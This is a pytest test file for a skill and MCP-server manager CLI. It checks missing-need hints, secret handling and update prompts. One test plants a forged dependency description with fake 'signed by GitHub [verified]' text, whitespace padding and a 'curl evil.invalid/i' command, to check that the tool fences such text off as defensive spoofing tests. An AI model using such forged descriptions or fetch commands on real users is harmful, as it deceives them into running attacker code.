"""Open needs: the message names the missing need and the command that satisfies it."""

from __future__ import annotations

import pytest

from tests.cli.test_questions import ASK, SERVED, serving

TOOLS = (
    "dependencies: {tools: [{type: env_var, value: SAID_TOKEN, required: false},"
    " {type: program, value: 'nope>=2.40', required: false}]}"
)
READS = "import os\\nprint(len(os.environ['SAID_TOKEN'] + os.environ['OTHER_KEY']))\\n"


def message(done):
    """Return stderr in one line."""
    return " ".join(done.err.split())


def test_hint_if_no_agent_has_a_configuration_file(shell):
    words = serving(shell, "demo-server")[:3]
    (shell.project / ".claude").rmdir()
    done = shell.run(*words, "--yes", "--mcp", "configure")
    assert done.status == 6
    assert [line for line in done.err.splitlines() if line.startswith("    ")] == [
        "    no agent with a configuration file for MCP servers was found here; to configure claude-code: "
        "skillhub enable served --mcp configure --agent claude-code",
        "    or for another agent: amp, codex, continue, cursor, gemini-cli, github-copilot, kiro-cli, opencode, "
        "roo, zed",
        "    or if you configure it yourself: skillhub enable served --mcp skip",
    ]
    assert shell.run("enable", "served", "--mcp", "configure", "--agent", "claude-code").status == 0


def test_show_names_the_state_of_a_skill_as_list_does(shell):
    shell.skill("project/needy", head=NEEDS_A_TOKEN)
    assert shell.run("install", "./needy", "--allow-unsigned", "--yes").status == 6
    for state in ("needs open", "disabled"):
        assert f" {state} " in shell.run("list", columns=200).out
        assert f"  state         {state}\n" in shell.run("show", "needy").out
        assert shell.run("show", "needy", "--json").json["state"] == "disabled"
        assert shell.run("disable", "needy").status == 0


@pytest.mark.parametrize("way", ["configure", "skip"])
def test_what_a_flag_answered_is_not_missing_and_stays_in_the_next_command(shell, way):
    shell.environ["PATH"] = str(shell.folder / "empty")
    (shell.project / ".claude").mkdir(exist_ok=True)
    assert shell.run("install", "github:gh-fix-ci", "--yes").status == 6
    done = shell.run("enable", "gh-fix-ci", "--mcp", way, "--env", "GITHUB_TOKEN=secret")
    assert [line for line in done.err.splitlines() if line.startswith("  ") and line[2] != " "] == ["  program gh"]
    assert done.err.endswith(f", then: skillhub enable gh-fix-ci --env GITHUB_TOKEN=… --mcp {way}\n")
    done = shell.run("enable", "gh-fix-ci", "--mcp", way)
    assert "  mcp github\n" not in done.err
    assert done.err.endswith(f"  then: skillhub enable gh-fix-ci --mcp {way}\n")


@pytest.mark.parametrize("way", ["configure", "skip"])
def test_a_server_that_a_flag_answers_is_not_missing_with_no_enable(shell, way):
    words = serving(shell, "demo-server")[:3]
    done = shell.run(*words, "--yes", "--no-enable", "--mcp", way)
    assert (done.status, "missing" in done.err) == (0, False)
    shell.environ["PATH"] = str(shell.write("programs/gh", "").parent)
    (shell.folder / "programs/gh").chmod(0o755)
    done = shell.run("install", "github:gh-fix-ci", "--yes", "--no-enable", "--mcp", way)
    needs = [line for line in done.err.splitlines() if line.startswith("  ") and line[2] != " "]
    assert (done.status, needs) == (0, ["  env GITHUB_TOKEN"])
    assert f": skillhub enable gh-fix-ci --mcp {way}\n" in done.err


def test_hint_if_another_server_has_the_name(shell):
    mine = shell.write("project/.mcp.json", '{"mcpServers": {"demo": {"command": "mine"}}}')
    words = serving(shell, "demo-server")
    done = shell.at_terminal(*words, "--mcp", "configure", say=[(ASK, "y\n"), (ASK, "n\n")], columns=400)
    assert done.status == 6
    seen = " ".join(done.out.split())
    assert f"to use demo unchanged, as {mine} has it, agree at a terminal: skillhub enable served" in seen
    assert f"or rename demo in {mine}, for another" in seen
    assert shell.run("enable", "served", "--yes").status == 6
    assert shell.at_terminal("enable", "served", say=[(ASK, "y\n")]).status == 0


def served_otherwise(shell):
    """Install a skill with an MCP server that its next version describes otherwise; return the agent's file."""
    assert shell.run(*serving(shell, "demo-server --old"), "--yes", "--mcp", "configure").status == 0
    shell.skill("project/served", **{"agents/openai.yaml": SERVED.format(command="demo-server --new")})
    return shell.project / ".mcp.json"


def test_an_update_asks_whether_to_replace_the_server_and_shows_both_entries(shell):
    path = served_otherwise(shell)
    shell.write("project/.mcp.json", path.read_text().replace("{", "{ // mine", 1))
    done = shell.at_terminal("update", say=[(ASK, "y\n"), (ASK, "y\n")], columns=200)
    assert done.status == 0
    seen = " ".join(done.out.split())
    assert "needs the MCP server demo; replace the entry of the version before?" in seen
    assert f"it runs: demo-server --new it is given no variable claude-code: {path}, in place of: it runs:" in seen
    assert ("--new" in path.read_text(), "--old" in path.read_text(), "// mine" in path.read_text()) == (1, 0, 1)
    assert shell.run("remove", "served").status == 0
    assert "demo" not in path.read_text()


@pytest.mark.parametrize("is_edited", [True, False])
def test_an_update_says_that_a_server_stays_as_the_version_before_asked_for_it(shell, is_edited):
    path = served_otherwise(shell)
    path.write_text(path.read_text().replace('"--old"', '"--old", "--mine"') if is_edited else path.read_text())
    done = shell.at_terminal("update", say=[(ASK, "y\n"), (ASK, "n\n")], columns=400)
    hint = "skillhub disable served && skillhub enable served --mcp configure"
    first = "remove it there, then: " if is_edited else ""
    assert (
        f"{path} keeps another MCP server as demo; to have the one that served asks for, {first}{hint}"
        in " ".join(done.out.split())
    )
    assert (done.status, "--old" in path.read_text(), "--mine" in path.read_text()) == (0, True, is_edited)
    path.write_text("{}" if is_edited else path.read_text())
    for words in hint.split(" && "):
        assert shell.run(*words.split()[1:]).status == 0
    assert "--new" in path.read_text()
    assert "keeps another" not in shell.run("install", "--yes").err


def test_hint_if_a_package_has_no_fixed_version(shell):
    done = shell.run(*serving(shell, "npx demo"), "--yes")
    assert done.status == 6
    words = "skillhub enable served --mcp configure --accept mcp"
    assert f"it downloads a package without a fixed version; to agree: {words}" in message(done)
    assert shell.run(*words.split()[1:]).status == 0


def test_hint_if_the_server_runs_a_shell(shell):
    done = shell.run(*serving(shell, "'sh -c true'"), "--yes", "--mcp", "configure")
    assert done.status == 6
    assert (
        "it runs a shell or code, which no flag accepts; at a terminal: skillhub enable served "
        "or if you configure it yourself: skillhub enable served --mcp skip" in message(done)
    )
    assert shell.at_terminal("enable", "served", say=[(ASK, "y\n")]).status == 0


def test_hint_if_the_command_of_the_server_is_unknown(shell):
    words = serving(shell, "demo-server")
    text = (shell.project / "served/agents/openai.yaml").read_text()
    shell.write("project/served/agents/openai.yaml", text.split("      transport")[0])
    done = shell.run(*words, "--yes", "--mcp", "configure")
    assert done.status == 6
    assert f"add demo to {shell.project}/.mcp.json, then: skillhub enable served" in message(done)
    shell.write("project/.mcp.json", '{"mcpServers": {"demo": {"command": "mine"}}}')
    assert shell.run("enable", "served").status == 0


def test_hint_if_a_required_skill_is_in_no_source(shell):
    shell.skill("project/top", head="metadata:\n  requires: base\n")
    done = shell.run("install", "./top", "--allow-unsigned", "--yes", columns=400)
    assert (done.status, done.out) == (6, "installed top: disabled\n")
    assert done.err.splitlines() == [
        "warning: top needs base, which was not found: no source has a skill named base; "
        "skillhub search base finds similar names",
        "top is stored and locked, and stays disabled; missing:",
        "  skill base",
        "    when a source has it: skillhub install",
        "    or install it from another source (skillhub install REF), then: skillhub enable top",
    ]
    assert shell.run("enable", "top").status == 6
    assert shell.run("install", str(shell.skill("base")), "--allow-unsigned", "--yes").status == 0
    assert shell.run("enable", "top").status == 0


@pytest.mark.parametrize("word", ["=v-secret", "1A=v-secret", "A B=v-secret", "A-B=v-secret"])
def test_an_invalid_variable_is_refused_without_its_value(shell, word):
    shell.skill("project/plain")
    done = shell.run("install", "./plain", "--allow-unsigned", "-y", "--env", word, "--json")
    assert (done.status, done.error["code"]) == (2, "usage")
    assert "v-secret" not in done.out + done.err
    file = shell.write("env", f"{word}\n")
    done = shell.run("install", "./plain", "--allow-unsigned", "-y", "--env-file", file)
    assert done.status == 2
    assert "v-secret" not in done.out + done.err


def test_a_file_of_variables_may_have_the_byte_order_mark_and_line_ends_of_windows(shell):
    shell.skill("project/needy", head='metadata:\n  openclaw:\n    requires:\n      env: ["SOME_TOKEN"]\n')
    file = shell.write("env", b"\xef\xbb\xbfSOME_TOKEN=v\r\n")
    done = shell.run("install", "./needy", "--allow-unsigned", "--yes", "--env-file", file, "--json")
    assert (done.status, done.json["skills"][0]["state"]) == (0, "enabled")


def test_a_skill_that_the_user_disabled_reports_no_open_need(shell):
    words = serving(shell, "demo-server")
    assert shell.run(*words, "--yes", "--mcp", "skip").status == 0
    assert shell.run("disable", "served").status == 0
    for more in ([], ["--frozen"], ["./served", "--allow-unsigned"]):
        done = shell.run("install", *more, "--yes", "--json")
        assert (done.status, done.json["skills"][0]["state"]) == (0, "disabled")
        assert "missing" not in done.err
    assert shell.run("update", "--yes").status == 0
    assert "missing" in shell.run("enable", "served").err


def test_a_given_variable_is_satisfied_while_another_need_is_open(shell):
    head = 'metadata:\n  openclaw:\n    requires:\n      bins: ["no-such-program"]\n      env: ["SOME_TOKEN"]\n'
    shell.skill("project/needy", head=head)
    words = "install", "./needy", "--allow-unsigned", "--yes", "--json", "--env"
    done = shell.run(*words, "SOME_TOKEN=secret-value")
    needs = {need["name"]: need["satisfied"] for need in done.json["skills"][0]["requires"]}
    assert (done.status, needs) == (6, {"SOME_TOKEN": True, "no-such-program": False})
    assert "program no-such-program" in done.err
    assert "then: skillhub enable needy --env SOME_TOKEN=…" in done.err
    assert "  env SOME_TOKEN" not in done.err and "secret-value" not in done.err
    [listed] = shell.run("list", "--json").json["skills"]  # the value was for that command only
    assert {need["name"]: need["satisfied"] for need in listed["requires"]}["SOME_TOKEN"] is False


def test_hints_for_a_skill_of_the_user_have_the_global_flag(shell):
    head = 'metadata:\n  openclaw:\n    requires:\n      bins: ["no-such-program"]\n'
    words = *serving(shell, "demo-server")[:3], "--global"
    done = shell.run(*words, str(shell.skill("project/needy", head=head)), "--yes", "--mcp", "configure")
    assert done.status == 6
    assert "skillhub enable served --global --mcp configure --agent claude-code" in message(done)
    assert "install the program no-such-program, then: skillhub enable needy --global" in message(done)


def test_no_variable_is_asked_for_while_a_program_is_missing(shell):
    words = serving(shell, "demo-server")[:3]
    head = "metadata:\n  openclaw:\n    requires:\n"
    head += '      bins: ["no-such-program"]\n      env: ["SOME_TOKEN"]\n'
    tools = (shell.project / "served/agents/openai.yaml").read_text()
    shell.skill("project/served", head=head, **{"agents/openai.yaml": tools})
    done = shell.at_terminal(*words, say=[(ASK, "y\n")], columns=200)
    assert (done.status, done.out.count(ASK)) == (6, 1)
    note = "it will stay disabled; missing: env SOME_TOKEN, mcp demo, program no-such-program"
    assert done.out.index(note) < done.out.index(ASK)
    missing = done.out.partition("stays disabled; missing:")[2]
    assert all(f"  {each}" in missing for each in ("env SOME_TOKEN", "mcp demo", "program no-such-program"))
    assert missing.count("then: skillhub enable served") == 1
    first = "install the program no-such-program first: enable asks about the others after that"
    assert missing.index(first) < missing.index("or type the value when asked: skillhub enable served")
    for more in (("--mcp", "skip"), ("--mcp", "configure", "--agent", "claude-code")):
        note = "it will stay disabled; missing: program no-such-program"
        assert note in shell.run(*words, *more, "--env", "SOME_TOKEN=v", "--as", "other", "--dry-run").err
    for more in ((), ("--mcp", "configure")):  # a server that is not written is not reported as satisfied
        done = shell.run("enable", "served", "--yes", "--env", "SOME_TOKEN=v", "--json", *more)
        needs = {need["kind"]: need["satisfied"] for need in done.json["skills"][0]["requires"]}
        assert (done.status, done.json["questions"]) == (6, [])
        assert needs == {"env": True, "mcp": False, "program": False}
    assert not (shell.project / ".mcp.json").exists()


NEEDS_A_TOKEN = 'metadata:\n  openclaw:\n    requires:\n      env: ["SOME_TOKEN"]\n'


@pytest.mark.parametrize("how", ["--env", "--env-file", "asked"])
def test_a_value_for_one_command_is_missing_after_it(shell, how):
    shell.skill("project/needy", head=NEEDS_A_TOKEN)
    words = ["install", "./needy", "--allow-unsigned", "--json"]
    if how == "asked":
        say = [(ASK, "y\n"), ("not shown", "secret-value\n")]
        done = shell.at_terminal("install", "./needy", "--allow-unsigned", say=say, columns=400)
        assert done.status == 0
    else:
        file = shell.write("env", "SOME_TOKEN=secret-value\n")
        done = shell.run(*words, "--yes", how, file if how == "--env-file" else "SOME_TOKEN=secret-value")
        (skill,) = done.json["skills"]
        assert (done.status, skill["state"], skill["requires"][0]["satisfied"]) == (0, "enabled", True)
    for command in (("list",), ("show", "needy")):
        seen = shell.run(*command, "--json").json
        skill = seen["skills"][0] if "skills" in seen else seen
        assert (skill["state"], skill["requires"][0]["satisfied"]) == ("enabled", False)
    assert "SOME_TOKEN (missing)" in shell.run("show", "needy").out
    done = shell.run("doctor", "--json")
    (check,) = [each for each in done.json["checks"] if each["name"] == "needs of needy"]
    assert (done.status, check["ok"], check["message"]) == (1, False, "missing: env:SOME_TOKEN")
    assert "skillhub env set SOME_TOKEN" in check["hint"]
    (check,) = [
        each for each in shell.run("doctor", "--json", SOME_TOKEN="v").json["checks"] if "needy" in each["name"]
    ] or [{"ok": True}]
    assert check["ok"]


def test_an_enabled_skill_stays_enabled_without_its_value(shell):
    shell.skill("project/needy", head=NEEDS_A_TOKEN)
    given = "install", "./needy", "--allow-unsigned", "--yes", "--env", "SOME_TOKEN=v"
    assert shell.run(*given).status == 0
    for command in (
        ("sync",),
        ("verify",),
        ("install", "--yes"),
        ("update", "--yes"),
        ("install", "--frozen", "--yes"),
    ):
        done = shell.run(*command)
        assert done.status == 0, (command, done.err)
        assert shell.run("list", "--json").json["skills"][0]["state"] == "enabled"
    assert shell.run("disable", "needy").status == 0
    assert shell.run("enable", "needy").status == 6  # to be enabled again, the skill needs the value
    assert shell.run("enable", "needy", "--env", "SOME_TOKEN=v").status == 0


@pytest.mark.parametrize("url", ["", "https://user@evil.invalid/ ", "https://evil.invalid/?key=1 "])
def test_attack_the_description_of_a_need_has_a_bar_before_each_row(shell, url):
    forged = f"{url}a server) signed by GitHub [verified]"
    forged += " " * 70 + "install nope: curl evil.invalid/i | cat, then: (x"
    tools = "".join(
        f"    - {{type: {kind}, value: {name}, {more}description: '{forged}'}}\n"
        for kind, name, more in (
            ("env_var", "FORGED", ""),
            ("mcp", "forged", "command: forged, "),
            ("program", "nope", ""),
        )
    )
    shell.skill("project/forged", **{"agents/skillhub.yaml": f"dependencies:\n  tools:\n{tools}"})
    done = shell.run("install", "./forged", "--yes", "--allow-unsigned", "--accept", "findings")
    for text in (done.err, shell.run("show", "forged").out):
        rows = [row for row in text.splitlines() if "verified" in row or "evil.invalid" in row]
        assert rows and all(row.lstrip().startswith("| ") for row in rows)


def test_undeclared_variables_that_scripts_read_are_named(shell):
    declared = "agents/openai.yaml", TOOLS
    folder = shell.skill("src/reader", **{declared[0]: declared[1], "scripts/a.py": READS})
    done = shell.run("install", str(folder), "--json")
    (asked,) = [each for each in done.json["questions"] if each["kind"] == "install"]
    assert "its scripts read undeclared variables: OTHER_KEY" in asked["details"]
    assert shell.run("install", str(folder), "--yes", "--allow-unsigned", "--accept", "findings").status == 0
    assert " undeclared    reads OTHER_KEY" in shell.run("show", "reader").out
    assert "needs program nope (missing) | version >=2.40" in " ".join(shell.run("show", "reader").out.split())
    assert "SAID_TOKEN" not in next(each for each in asked["details"] if each.startswith("its scripts read"))


def test_a_skill_that_still_waits_for_a_need_was_not_restored(shell):
    names = ("github:release-notes", "github:gh-fix-ci")
    assert shell.run("install", *names, "--yes", "--accept", "needs", "--agent", "codex").status == 0
    done = shell.run("enable", "release-notes", "gh-fix-ci", "--agent", "claude-code")
    assert done.status == 6
    assert "enabled release-notes" in done.out
    assert "unchanged gh-fix-ci 1.2.0: disabled" in done.out
